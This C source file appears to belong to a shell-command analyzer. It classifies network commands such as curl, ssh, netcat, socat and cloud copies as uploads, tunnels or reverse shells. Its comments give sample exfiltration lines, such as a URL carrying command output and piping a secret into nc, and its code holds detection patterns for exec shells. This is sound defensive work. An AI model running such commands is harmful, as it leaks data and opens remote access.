/*
 * Network commands whose words a knowledge row cannot describe alone:
 * curl's and wget's URLs, downloads and uploads, HTTPie's items, ssh's
 * remote command, tunnels and the scripts it reads, remote paths of scp
 * and rsync, netcat's and socat's shells, GitHub and cloud storage copies.
 */
#include <string.h>

#include "shell/carriers.h"
#include "shell/special.h"
#include "util/host.h"

/* ---- web ------------------------------------------------------------------ */

/* The last component of a URL's path ("" when it has none). */
static pe_str url_basename(pe_str u)
{
    const char *q = memchr(u.s, '?', u.len);
    size_t end = q ? (size_t)(q - u.s) : u.len, k = end;
    while (k > 0 && u.s[k - 1] != '/')
        k--;
    const char *scheme = u.len > 3 ? strstr(u.s, "://") : NULL;
    if (scheme && (size_t)(scheme - u.s) + 3 >= k) /* no path at all */
        return (pe_str){"", 0};
    return (pe_str){u.s + k, end - k};
}

/* Files a download writes: curl -o f / -O (named after the URL), wget -O f
 * or by default named after the URL, and > f. */
static void downloads_into(sh_ctx *c, size_t idx, const sh_walk *wk, int wget)
{
    const pe_shell_cmd *k = &c->cmds[idx].pub;
    unsigned scope = c->cmds[idx].scope;
    char out = wget ? 'O' : 'o';
    int remote_name = wget, named = 0;
    for (size_t j = 1; j < k->argc; j++) {
        pe_str a = k->argv[j];
        if (a.len > 1 && a.s[0] == '-' && a.s[1] != '-') {
            const char *o = memchr(a.s + 1, out, a.len - 1);
            if (!wget && memchr(a.s + 1, 'O', a.len - 1))
                remote_name = 1;
            if (!o)
                continue;
            pe_str v = (size_t)(o - a.s) + 1 < a.len
                           ? (pe_str){o + 1, a.len - (size_t)(o - a.s) - 1}
                       : j + 1 < k->argc ? k->argv[j + 1]
                                         : (pe_str){NULL, 0};
            if (v.s && !sh_eq(v, "-"))
                sh_file_written(c, scope, v, k->argf[j], NULL, 1);
            named = 1;
        } else if (sh_eq(a, wget ? "--output-document" : "--output") && j + 1 < k->argc) {
            if (!sh_eq(k->argv[j + 1], "-"))
                sh_file_written(c, scope, k->argv[j + 1], k->argf[j + 1], NULL, 1);
            named = 1;
        } else if (!wget && sh_eq(a, "--remote-name")) {
            remote_name = 1;
        }
    }
    for (size_t i = 0; remote_name && !named && i < wk->nops; i++) {
        pe_str b = url_basename(k->argv[wk->ops[i]]);
        char *d = b.len ? sh_strndup(c, b.s, b.len) : NULL;
        if (!d)
            continue;
        b.s = d;
        sh_file_written(c, scope, b, 0, NULL, 1);
        sh_path_in(c, scope, wk->w, b, 0, PE_SHELL_P_WRITE); /* named after the URL */
        k = &c->cmds[idx].pub;
    }
    for (size_t j = 0; j < k->nredirs; j++) {
        const pe_shell_redir *r = &k->redirs[j];
        if ((r->flags & PE_SHELL_R_WRITE) && (r->flags & PE_SHELL_R_FILE) &&
            (r->fd == -1 || r->fd == 1))
            sh_file_written(c, scope, r->target, r->flags, NULL, 1);
    }
}

/* Another command's output in a URL's path or query is sent to the host
 * (curl "https://x/api?u=$(whoami)"); in the host it is a lookup (DNS
 * exfiltration, facts.c). */
static int sends_output(pe_str u, unsigned flags)
{
    if (!(flags & PE_SHELL_W_CMDSUB))
        return 0;
    const char *scheme = u.len > 3 ? strstr(u.s, "://") : NULL;
    size_t i = scheme ? (size_t)(scheme - u.s) + 3 : 0;
    while (i < u.len && u.s[i] != '/' && u.s[i] != '?' && u.s[i] != '#') {
        if (u.s[i] == '$' && i + 1 < u.len && u.s[i + 1] == '(') { /* a host made by one */
            for (int d = 0; i < u.len; i++)
                if ((d += u.s[i] == '(' ? 1 : u.s[i] == ')' ? -1 : 0) == 0 && u.s[i] == ')')
                    break;
        }
        i++;
    }
    for (; i < u.len; i++)
        if (u.s[i] == '`' || (u.s[i] == '$' && i + 1 < u.len && u.s[i + 1] == '('))
            return 1;
    return 0;
}

int sh_web(sh_ctx *c, size_t idx, const sh_know *k, sh_walk *wk)
{
    for (size_t i = 0; i < wk->nops; i++) {
        pe_str u = word(c, idx, wk->ops[i]);
        unsigned f = wflags(c, idx, wk->ops[i]);
        sh_net_word(c, c->cmds[idx].scope, u, f, PE_URL_WEB);
        if (sends_output(u, f))
            c->flags |= PE_SHELL_UPLOAD;
    }
    downloads_into(c, idx, wk, strcmp(k->name, "wget") == 0);
    return 1;
}

/* HTTPie and xh: [METHOD] URL [ITEM...]; a URL may lack its scheme
 * (":3000/x" is localhost), items name=@file and @file send a file. */
int sh_httpie(sh_ctx *c, size_t idx, const sh_know *k, sh_walk *wk)
{
    (void)k;
    const sh_cmd *sc = &c->cmds[idx];
    int url_seen = 0;
    for (size_t i = 0; i < wk->nops; i++) {
        size_t j = wk->ops[i];
        pe_str a = word(c, idx, j);
        int method = a.len && a.len <= 7;
        for (size_t m = 0; m < a.len; m++)
            method &= a.s[m] >= 'A' && a.s[m] <= 'Z';
        if (!url_seen && method && i + 1 < wk->nops)
            continue;
        if (!url_seen) {
            url_seen = 1;
            sh_net_word(c, sc->scope, a, wflags(c, idx, j), PE_URL_WEB);
            continue;
        }
        const char *at = memchr(a.s, '@', a.len);
        if (at && (at == a.s || at[-1] == '=')) {
            pe_str f = {at + 1, a.len - (size_t)(at - a.s) - 1};
            c->flags |= PE_SHELL_UPLOAD;
            sh_path_in(c, sc->scope, wk->w, f, wflags(c, idx, j),
                       PE_SHELL_P_UPLOAD | PE_SHELL_P_READ);
        } else if (memchr(a.s, '=', a.len)) {
            c->flags |= PE_SHELL_UPLOAD; /* name=value data sent */
        }
    }
    return 1;
}

/* ---- ssh, scp, rsync ------------------------------------------------------ */

/* ssh host with no command runs what it reads on the remote host: a
 * here-doc, a file the line wrote, another command's output. */
static void ssh_stdin(sh_ctx *c, size_t idx)
{
    const sh_cmd *sc = &c->cmds[idx];
    const pe_shell_redir *in = NULL;
    for (size_t j = 0; j < sc->pub.nredirs; j++)
        if ((sc->pub.redirs[j].fd == -1 || sc->pub.redirs[j].fd == 0) &&
            sc->pub.redirs[j].op.s[0] == '<')
            in = &sc->pub.redirs[j];
    if (!in && !(sc->pub.flags & PE_SHELL_C_STDIN_PIPE))
        return; /* a terminal: an interactive login */
    pe_str code = {NULL, 0};
    int decoded = 0;
    if (in && (sh_eq(in->op, "<<") || sh_eq(in->op, "<<-")))
        code = in->body;
    else if (in && sh_eq(in->op, "<<<"))
        code = in->target;
    else if (in)
        sh_written_content(c, idx, in->target, in->flags, &code, &decoded);
    else
        sh_known_output(c, sc->src, &code, &decoded);
    c->flags |= PE_SHELL_ELSEWHERE;
    if (code.s) {
        c->remote++;
        sh_run_code(c, code, sc->pub.depth, PE_SHELL_REMOTE, sc->scope, 0);
        c->remote--;
    }
}

/* The remote command (words from j) is an interpreter with options only
 * (bash -s, sh, python3 -): what ssh reads is its program. */
static int remote_reads_program(const sh_ctx *c, size_t idx, size_t j)
{
    const pe_shell_cmd *k = &c->cmds[idx].pub;
    size_t first = 1;
    for (size_t w = j; w < k->argc; w++) {
        pe_str a = k->argv[w];
        for (size_t i = 0; i < a.len;) {
            while (i < a.len && a.s[i] == ' ')
                i++;
            size_t e = i;
            while (e < a.len && a.s[e] != ' ')
                e++;
            pe_str t = {a.s + i, e - i}, b = sh_basename(t);
            if (e > i && first && !pe_shell_is_interpreter(b.s, b.len))
                return 0;
            if (e > i && !first && !(t.s[0] == '-' && !sh_eq(t, "-c") && !sh_eq(t, "-e")))
                return 0;
            first &= e == i;
            i = e;
        }
    }
    return !first;
}

int sh_ssh(sh_ctx *c, size_t idx, const sh_know *k, sh_walk *wk)
{
    if (!wk->nops)
        return 1;
    size_t host = wk->ops[0], j = host + 1, argc = c->cmds[idx].pub.argc;
    sh_net_word(c, c->cmds[idx].scope, word(c, idx, host), wflags(c, idx, host), PE_URL_SSH);
    /* options may follow the host, and "--" end them (ssh host -t -- cmd) */
    while (j < argc && word(c, idx, j).len > 1 && word(c, idx, j).s[0] == '-') {
        pe_str a = word(c, idx, j++);
        if (sh_eq(a, "--"))
            break;
        if (a.s[1] != '-' && sh_know_short_arg(k, a.s[a.len - 1]))
            j++;
    }
    if (has_letter(c, idx, 'R', j) || has_letter(c, idx, 'D', j))
        c->flags |= PE_SHELL_LISTEN; /* a tunnel into this machine */
    if (j >= argc || remote_reads_program(c, idx, j)) {
        ssh_stdin(c, idx);
        if (j < argc)
            sh_carry_remote(c, idx, j);
        return 1;
    }
    /* what the remote command reads comes from here: it is sent */
    const sh_cmd *sc = &c->cmds[idx];
    for (size_t r = 0; r < sc->pub.nredirs; r++) {
        const pe_shell_redir *rd = &sc->pub.redirs[r];
        if (sh_eq(rd->op, "<") && (rd->fd == -1 || rd->fd == 0)) {
            c->flags |= PE_SHELL_UPLOAD;
            sh_path_in(c, sc->scope, wk->w, rd->target, rd->flags,
                       PE_SHELL_P_READ | PE_SHELL_P_UPLOAD);
        }
    }
    int xargs = 0; /* xargs gives what it runs no stdin */
    for (size_t w = 0; w < sc->pub.nwrappers; w++)
        xargs |= sh_eq(sc->pub.wrappers[w], "xargs");
    if ((sc->pub.flags & PE_SHELL_C_STDIN_PIPE) && !xargs) {
        c->flags |= PE_SHELL_UPLOAD;
        sh_stdin_sent(c);
    }
    sh_carry_remote(c, idx, j);
    return 1;
}

/* scp and rsync: host:path operands are remote; local sources sent to a
 * remote destination are uploads, what comes from a remote is written. */
int sh_copy_remote(sh_ctx *c, size_t idx, const sh_know *k, sh_walk *wk)
{
    (void)k;
    const sh_cmd *sc = &c->cmds[idx];
    if (!wk->nops)
        return 1;
    size_t last = wk->ops[wk->nops - 1];
    int dest_remote =
        sh_net_word(c, sc->scope, word(c, idx, last), wflags(c, idx, last), PE_URL_SCP) != 0;
    for (size_t i = 0; i + 1 < wk->nops || (wk->nops == 1 && i == 0); i++) {
        size_t j = wk->ops[i];
        if (sh_net_word(c, sc->scope, word(c, idx, j), wflags(c, idx, j), PE_URL_SCP))
            continue; /* a remote source */
        unsigned role = PE_SHELL_P_READ | (dest_remote ? PE_SHELL_P_UPLOAD : 0);
        sh_path_in(c, sc->scope, wk->w, word(c, idx, j), wflags(c, idx, j), role);
        if (wk->nops == 1)
            break;
    }
    int deletes = 0; /* rsync --delete: what the destination has beyond the source goes */
    for (size_t j = 1; j < sc->pub.argc; j++)
        deletes |= word(c, idx, j).len >= 8 && !memcmp(word(c, idx, j).s, "--delete", 8);
    if (dest_remote)
        c->flags |= PE_SHELL_UPLOAD;
    else if (wk->nops > 1)
        sh_path_in(c, sc->scope, wk->w, word(c, idx, last), wflags(c, idx, last),
                   PE_SHELL_P_WRITE | (deletes ? PE_SHELL_P_DELETE : 0));
    return 1;
}

/* ---- netcat and socat ----------------------------------------------------- */

int sh_netcat(sh_ctx *c, size_t idx, const sh_know *k, sh_walk *wk)
{
    (void)k;
    const sh_cmd *sc = &c->cmds[idx];
    size_t stop = sc->pub.argc;
    int listen = has_letter(c, idx, 'l', stop) || has_word(c, idx, "--listen");
    int exec = has_letter(c, idx, 'e', stop) || has_letter(c, idx, 'c', stop) ||
               has_word(c, idx, "--exec") || has_word(c, idx, "--sh-exec");
    if (listen)
        c->flags |= PE_SHELL_LISTEN;
    /* nc -l [-p] 4444 and nc -l -p 4444: the operand is a port, not a host;
     * nc -l addr port binds to addr (local) */
    if (wk->nops && !(listen && wk->nops == 1 &&
                      pe_port_parse(word(c, idx, wk->ops[0]).s, word(c, idx, wk->ops[0]).len) >= 0))
        sh_net_word(c, sc->scope, word(c, idx, wk->ops[0]), wflags(c, idx, wk->ops[0]), PE_URL_SSH);
    if (exec) /* a program's input and output handed to the peer */
        c->flags |= PE_SHELL_REVERSE_SHELL;
    /* nc host port < file: the file is sent */
    for (size_t j = 0; wk->nops && !listen && j < sc->pub.nredirs; j++) {
        const pe_shell_redir *r = &sc->pub.redirs[j];
        if (r->op.s[0] == '<' && (r->flags & PE_SHELL_R_FILE)) {
            sh_path_in(c, sc->scope, wk->w, r->target, r->flags,
                       PE_SHELL_P_READ | PE_SHELL_P_UPLOAD);
            c->flags |= PE_SHELL_UPLOAD;
        }
    }
    if (wk->nops && !listen && (sc->pub.flags & PE_SHELL_C_STDIN_PIPE)) {
        c->flags |= PE_SHELL_UPLOAD; /* cat secret | nc host port */
        sh_stdin_sent(c);
    }
    return 1;
}

/* The part of a socat address after its type ("TCP:h:p" -> "h:p"). */
static int socat_addr(pe_str a, const char *type, pe_str *rest)
{
    size_t n = strlen(type);
    if (a.len <= n || a.s[n] != ':')
        return 0;
    for (size_t i = 0; i < n; i++)
        if ((a.s[i] | 0x20) != (type[i] | 0x20))
            return 0;
    rest->s = a.s + n + 1;
    rest->len = a.len - n - 1;
    return 1;
}

int sh_socat(sh_ctx *c, size_t idx, const sh_know *k, sh_walk *wk)
{
    (void)k;
    static const char *const net[] = {"TCP",         "TCP4",         "TCP6",
                                      "UDP",         "UDP4",         "UDP6",
                                      "OPENSSL",     "SSL",          "SCTP",
                                      "SOCKS4",      "SOCKS4A",      "PROXY",
                                      "TCP-CONNECT", "TCP4-CONNECT", "TCP6-CONNECT",
                                      "UDP-CONNECT", "UDP-SENDTO",   "OPENSSL-CONNECT",
                                      "SSL-CONNECT", "SCTP-CONNECT", "DTLS",
                                      NULL};
    static const char *const listen[] = {"TCP-LISTEN", "TCP4-LISTEN",    "TCP6-LISTEN",
                                         "UDP-LISTEN", "OPENSSL-LISTEN", "SSL-LISTEN",
                                         "TCP-L",      "UDP-RECV",       NULL};
    const sh_cmd *sc = &c->cmds[idx];
    int is_net = 0, is_exec = 0;
    for (size_t i = 0; i < wk->nops; i++) {
        pe_str a = word(c, idx, wk->ops[i]), rest;
        for (const char *const *t = net; *t; t++) {
            if (socat_addr(a, *t, &rest)) {
                size_t colon = 0; /* host:port[,options] */
                while (colon < rest.len && rest.s[colon] != ',')
                    colon++;
                rest.len = colon;
                sh_net_word(c, sc->scope, rest, 0, PE_URL_WEB);
                is_net = 1;
            }
        }
        for (const char *const *t = listen; *t; t++)
            if (socat_addr(a, *t, &rest))
                is_net = 1, c->flags |= PE_SHELL_LISTEN;
        if (socat_addr(a, "EXEC", &rest) || socat_addr(a, "SYSTEM", &rest)) {
            size_t comma = 0;
            while (comma < rest.len && rest.s[comma] != ',')
                comma++;
            rest.len = comma;
            sh_run_code(c, rest, sc->pub.depth, PE_SHELL_STRING, sc->scope, 0);
            is_exec = 1;
        }
        if (socat_addr(a, "FILE", &rest) || socat_addr(a, "OPEN", &rest) ||
            socat_addr(a, "GOPEN", &rest) || socat_addr(a, "CREATE", &rest))
            sh_path_in(c, sc->scope, wk->w, rest, 0,
                       PE_SHELL_P_READ | PE_SHELL_P_WRITE | (is_net ? PE_SHELL_P_UPLOAD : 0));
        if (sh_eq(a, "-") || sh_eq(a, "STDIO") || sh_eq(a, "STDIN"))
            continue;
    }
    if (is_net && is_exec)
        c->flags |= PE_SHELL_REVERSE_SHELL;
    return 1;
}

/* gh gist create FILE, gh release upload TAG FILE: files sent to GitHub. */
int sh_gh(sh_ctx *c, size_t idx, const sh_know *k, sh_walk *wk)
{
    (void)k;
    const sh_cmd *sc = &c->cmds[idx];
    const pe_shell_cmd *p = &sc->pub;
    if (p->nsub < 2)
        return 1;
    pe_str a = p->argv[p->subidx], b = p->argv[p->subidx + 1];
    int gist = sh_eq(a, "gist") && (sh_eq(b, "create") || sh_eq(b, "edit"));
    int release = sh_eq(a, "release") && (sh_eq(b, "upload") || sh_eq(b, "create"));
    if (!gist && !release)
        return 1;
    size_t first = 0; /* the operands after the subcommand (a release's tag first) */
    while (first < wk->nops && wk->ops[first] < p->subidx + 2)
        first++;
    for (size_t i = first + (release ? 1 : 0); i < wk->nops; i++) {
        sh_path_in(c, sc->scope, wk->w, word(c, idx, wk->ops[i]), wflags(c, idx, wk->ops[i]),
                   PE_SHELL_P_READ | PE_SHELL_P_UPLOAD);
        c->flags |= PE_SHELL_UPLOAD;
    }
    return 1;
}

/* Whether a cloud storage word is remote: s3://, gs://, az://, or rclone's
 * "remote:path". */
static int storage_remote(pe_str w, int rclone)
{
    static const char *const schemes[] = {"s3://",   "gs://", "az://", "https://",
                                          "http://", "r2://", "b2://", NULL};
    for (const char *const *s = schemes; *s; s++)
        if (w.len > strlen(*s) && !memcmp(w.s, *s, strlen(*s)))
            return 1;
    const char *colon = memchr(w.s, ':', w.len);
    return rclone && colon && colon > w.s && !memchr(w.s, '/', (size_t)(colon - w.s));
}

/* aws s3 cp|mv|sync, gsutil cp|mv|rsync, rclone copy|sync|move, azcopy
 * copy: local sources sent to a bucket are uploads. */
int sh_cloud_copy(sh_ctx *c, size_t idx, const sh_know *k, sh_walk *wk)
{
    (void)k;
    const sh_cmd *sc = &c->cmds[idx];
    const pe_shell_cmd *p = &sc->pub;
    int rclone = sh_eq(p->base, "rclone");
    size_t first = 0;
    while (first < wk->nops && p->nsub && wk->ops[first] < p->subidx + p->nsub)
        first++;
    if (wk->nops < first + 2)
        return 1;
    pe_str dest = word(c, idx, wk->ops[wk->nops - 1]);
    int up = storage_remote(dest, rclone);
    for (size_t i = first; i + 1 < wk->nops; i++) {
        pe_str w = word(c, idx, wk->ops[i]);
        if (storage_remote(w, rclone))
            continue;
        sh_path_in(c, sc->scope, wk->w, w, wflags(c, idx, wk->ops[i]),
                   PE_SHELL_P_READ | (up ? PE_SHELL_P_UPLOAD : 0));
    }
    if (up)
        c->flags |= PE_SHELL_UPLOAD;
    else if (!storage_remote(dest, rclone) || rclone)
        sh_path_in(c, sc->scope, wk->w, dest, wflags(c, idx, wk->ops[wk->nops - 1]),
                   PE_SHELL_P_WRITE);
    return 1;
}
